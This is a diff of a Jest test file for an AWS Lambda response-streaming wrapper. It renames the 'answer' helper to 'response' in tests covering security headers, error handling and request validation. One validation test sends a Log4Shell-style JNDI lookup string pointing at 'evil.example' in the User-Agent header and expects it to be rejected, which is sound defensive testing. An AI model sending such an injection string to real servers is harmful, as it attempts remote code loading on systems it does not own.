@@ -34,7 +34,7 @@ function runtimeStream() {
   return {
     stream,
     state,
-    answer: () => {
+    response: () => {
       const text = Buffer.concat(sent.map((chunk) => Buffer.from(chunk as string))).toString();
       const [prelude, body] = text.split('\0'.repeat(8));
       return { ...JSON.parse(prelude), body };
@@ -67,30 +67,31 @@ beforeEach(() => {
 afterEach(() => jest.restoreAllMocks());
 
 test('adds headers to what HttpResponseStream.from sends, and leaves the handler its own', async () => {
-  const { answer, state } = await run(async (_, stream) => {
+  const { response, state } = await run(async (_, stream) => {
     const http = from(stream, { statusCode: 201, headers: { 'x-frame-options': 'SAMEORIGIN', 'Server': 'x' }, cookies: ['a=b'] });
     http.write('one ');
     http.write('two');
     http.end();
   });
-  expect(answer()).toMatchObject({
+  expect(response()).toMatchObject({
     statusCode: 201,
     cookies: ['a=b'],
     body: 'one two',
     headers: { 'x-frame-options': 'SAMEORIGIN', 'X-Content-Type-Options': 'nosniff' },
   });
-  expect(answer().headers).not.toHaveProperty('X-Frame-Options');
-  expect(answer().headers).not.toHaveProperty('Server');
+  expect(response().headers).not.toHaveProperty('X-Frame-Options');
+  expect(response().headers).not.toHaveProperty('Server');
   expect(state.ended).toBe(true);
 });
 
-test('gives an answer without status and headers its own', async () => {
-  const { answer, state } = await run(async (_, stream) => {
+test('gives a response without status and headers its own', async () => {
+  const { response, state } = await run(async (_, stream) => {
     stream.setContentType('text/plain');
     stream.write('hello');
     stream.end();
   });
-  expect(answer()).toMatchObject({ statusCode: 200, headers: { 'Content-Type': 'text/plain', 'X-Frame-Options': 'DENY' }, body: 'hello' });
+  expect(response())
+    .toMatchObject({ statusCode: 200, headers: { 'Content-Type': 'text/plain', 'X-Frame-Options': 'DENY' }, body: 'hello' });
   expect(state.contentType).toBe('application/vnd.awslambda.http-integration-response');
 });
 
@@ -98,17 +99,17 @@ test.each<[string, (stream: any) => void, string]>([
   ['the last chunk', (stream) => stream.end('bye'), 'bye'],
   ['nothing', (stream) => stream.end(), ''],
 ])('sends status and headers when the handler ends with %s', async (_, end, body) => {
-  expect((await run(async (__, stream) => end(from(stream, { statusCode: 204 })))).answer()).toMatchObject({
+  expect((await run(async (__, stream) => end(from(stream, { statusCode: 204 })))).response()).toMatchObject({
     statusCode: 204,
     body,
     headers: { 'X-Frame-Options': 'DENY' },
   });
-  expect((await run(async (__, stream) => end(stream))).answer()).toMatchObject({ statusCode: 200, body });
+  expect((await run(async (__, stream) => end(stream))).response()).toMatchObject({ statusCode: 200, body });
 });
 
-test('answers an error before the first byte with 500, and leaves one after it to Lambda', async () => {
-  const { answer } = await run(async () => { throw new Error('hunter2'); });
-  expect(answer()).toMatchObject({
+test('responds to an error before the first byte with 500, and leaves one after it to Lambda', async () => {
+  const { response } = await run(async () => { throw new Error('hunter2'); });
+  expect(response()).toMatchObject({
     statusCode: 500,
     headers: { 'X-Frame-Options': 'DENY' },
     body: '{"message":"Internal Server Error","requestId":"request-1"}',
@@ -121,8 +122,8 @@ test('answers an error before the first byte with 500, and leaves one after it t
 test('validates before the handler runs', async () => {
   jest.spyOn(console, 'warn').mockImplementation(() => undefined);
   const handler = jest.fn(async () => undefined);
-  const { answer } = await run(handler, { validate: true }, { ...url, headers: { 'User-Agent': '${jndi:ldap://evil.example}' } });
-  expect(answer()).toMatchObject({ statusCode: 400 });
+  const { response } = await run(handler, { validate: true }, { ...url, headers: { 'User-Agent': '${jndi:ldap://evil.example}' } });
+  expect(response()).toMatchObject({ statusCode: 400 });
   expect(handler).not.toHaveBeenCalled();
 });
 
